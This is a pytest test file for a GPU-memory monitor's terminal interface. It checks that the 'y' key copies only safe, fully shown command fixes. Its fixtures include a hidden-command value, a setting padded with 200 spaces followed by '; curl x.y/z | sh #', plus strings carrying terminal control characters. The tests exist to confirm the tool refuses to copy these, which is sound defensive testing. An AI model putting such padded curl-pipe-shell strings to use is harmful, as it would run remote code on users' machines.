"""`y` copies what was shown, in full, and only a command (issue 36, items 6 and 13).

- An OOM report's `fix` of `…expandable_segments:True` + 200 spaces + `; curl … | sh #` was
  drawn as `…True…` and the whole line went to the clipboard.
- `y` on a leaking trainer copied an unrelated tip (the 8-bit optimizer): the leak has no
  one-line fix, and `y` says so.
- An OOM's fix in words ("cap the batch at about 80 % …") was drawn after `$` like a command.
"""

from __future__ import annotations

import asyncio
import dataclasses
from typing import Any

import pytest
from ui_frozen import NOW, T0, TRAINERS, frozen_store, poll_at
from ui_helpers import notifications, screen_text, wait_for

from memtop.engine.observation import Observer
from memtop.model import Severity
from memtop.present import report
from memtop.ui import fixes
from memtop.ui.app import MemtopApp
from memtop.ui.view import SuggestionItem
from memtop.ui.widgets.process_table import ProcessTable
from memtop.ui.widgets.suggestions import SuggestionsPane

pytestmark = pytest.mark.slow

CURL = "PYTORCH_CUDA_ALLOC_CONF=expandable_segments:True" + " " * 200 + "; curl x.y/z | sh #"
PROSE = "cap the batch (or sequence length) at about 80% of the one that failed"
LONG = "PYTORCH_CUDA_ALLOC_CONF=expandable_segments:True,max_split_size_mb:" + "1" * 90 + "9"


def store_with_oom(fix: str, pid: int = 4201) -> Any:
    """The frozen store, then one more round where `pid` reports an OOM whose fix is `fix`."""
    store = frozen_store()
    trainer = next(t for t in TRAINERS if t.pid == pid)
    poll = poll_at(trainer, 300, 10 << 30)
    device = poll.sample.devices[0]
    stats = {**device.stats, "num_ooms": 1}
    last = {
        "time": NOW,
        "pid": pid,
        "step": 601,
        "phase": "forward",
        "device": 0,
        "path": "/home/ada/.local/state/memtop/oom/oom-1.json",
        "diagnosis": {"cause": "fragmentation", "detail": "the cache was split", "fix": fix},
    }
    sample = dataclasses.replace(
        poll.sample,
        time=T0 + 300.5,
        devices=(dataclasses.replace(device, stats=stats),),
        oom={"ooms": 1, "reports": 1, "last": last},
    )
    store.update_agents([dataclasses.replace(poll, sample=sample)], T0 + 300.6)
    return store


def app_of(store: Any) -> MemtopApp:
    app = MemtopApp(store, None, clock=lambda: NOW + 1, host="gpu-box", my_uid=1000)
    app.copy_to_clipboard = lambda text: setattr(app, "copied", text)  # type: ignore[method-assign]
    return app


def drive(app: MemtopApp, body: Any, size: tuple[int, int] = (80, 40)) -> None:
    async def run() -> None:
        async with app.run_test(size=size) as pilot:
            await wait_for(pilot, lambda: len(app.query("FooterKey")) > 0)
            # The pane words its items again once it knows its width (the next refresh).
            await wait_for(pilot, lambda: app.query_one(SuggestionsPane)._width > 0)
            await pilot.pause(0.2)
            await body(pilot)

    asyncio.run(run())


def oom_item(app: MemtopApp) -> int:
    """The index of the OOM suggestion in the pane."""
    items = app.query_one(SuggestionsPane).items
    return next(i for i, item in enumerate(items) if item.title.startswith("Out of memory"))


async def copy_from_pane(app: MemtopApp, pilot: Any, index: int) -> None:
    await pilot.press("tab")
    pane = app.query_one(SuggestionsPane)
    pane.highlighted = index
    app.clear_notifications()
    await pilot.press("y")
    await pilot.pause(0.1)


def test_y_on_a_leak_says_it_has_no_one_line_fix_not_another_tips() -> None:
    app = app_of(frozen_store())

    async def body(pilot: Any) -> None:
        table = app.query_one(ProcessTable)
        table.move_cursor(row=table.get_row_index("4102:GPU-0a1b2c3d"))
        await pilot.press("y")
        said = " ".join(notifications(app))
        assert "has no one-line fix" in said and "Leak" in said, said
        assert getattr(app, "copied", None) is None

    drive(app, body)


def test_an_agents_fix_with_a_hidden_command_is_shown_whole_and_not_copied() -> None:
    app = app_of(store_with_oom(CURL))

    async def body(pilot: Any) -> None:
        index = oom_item(app)
        await copy_from_pane(app, pilot, index)
        assert getattr(app, "copied", None) is None
        assert "nothing copied" in " ".join(notifications(app))
        shown = screen_text(app.export_screenshot())
        # Wrapped onto the pane, not cut at its edge; the blanks in sight.
        assert "True⟨200 blanks⟩; curl" in shown and "x.y/z | sh #" in shown, shown
        assert "the agent's words" in shown
        # From the table too: the OOM is that trainer's most severe suggestion.
        await pilot.press("shift+tab")
        table = app.query_one(ProcessTable)
        table.move_cursor(row=table.get_row_index("4201:GPU-4e5f6a7b"))
        table.focus()
        await pilot.press("y")
        assert getattr(app, "copied", None) is None

    drive(app, body)


def test_an_oom_fix_in_words_is_shown_as_words() -> None:
    app = app_of(store_with_oom(PROSE))

    async def body(pilot: Any) -> None:
        shown = screen_text(app.export_screenshot())
        assert f"→ {PROSE[:40]}" in shown and f"$ {PROSE[:40]}" not in shown, shown
        await copy_from_pane(app, pilot, oom_item(app))
        assert getattr(app, "copied", None) is None
        assert "advice in words" in " ".join(notifications(app))
        await pilot.press("enter")  # the detail screen says it as words too
        await pilot.pause(0.5)
        detail = screen_text(app.export_screenshot())
        assert f"→ {PROSE[:40]}" in detail and f"$ {PROSE[:40]}" not in detail, detail

    drive(app, body)
    obs = Observer(store_with_oom(PROSE)).latest()
    (oom,) = [s for s in report.build(obs)["suggestions"] if s["rule"] == "oom"]
    assert (oom["fix"], oom["fix_kind"], oom["fix_by"]) == (PROSE, "prose", "agent")


def test_a_long_agent_setting_is_shown_in_full_and_copied_as_the_agents() -> None:
    app = app_of(store_with_oom(LONG))

    async def body(pilot: Any) -> None:
        shown = screen_text(app.export_screenshot()).replace("\n", "")
        assert "1" * 60 in shown and "19" in shown  # every character, over several rows
        await copy_from_pane(app, pilot, oom_item(app))
        assert getattr(app, "copied", None) == LONG
        assert f"Copied the agent's fix (its words, not memtop's): {LONG}" in notifications(app)[-1]

    drive(app, body)


def item(fix: str, prose: bool = False) -> SuggestionItem:
    return SuggestionItem(
        "k", Severity.WARNING, 1, 0, "Fragmentation", "", fix, None, fix_is_prose=prose
    )


@pytest.mark.parametrize(
    ("fix", "why"),
    [
        ("memtop cleanup 4201", None),
        ("PYTORCH_CUDA_ALLOC_CONF=expandable_segments:True  ; curl x | sh", "run of blanks"),
        ("export A=1\tB=2", "blank that is not a space"),
        ("echo ok\x1b[2K", "control character (U+001B)"),
        ("echo \u202eok", "control character (U+202E)"),
        ("x" * 201, "over 200"),
    ],
)
def test_what_y_refuses_to_copy(fix: str, why: str | None) -> None:
    said = fixes.not_copied(item(fix))
    assert (said is None) if why is None else (why in (said or "")), said
    assert "advice in words" in (fixes.not_copied(item("cap the batch", prose=True)) or "")
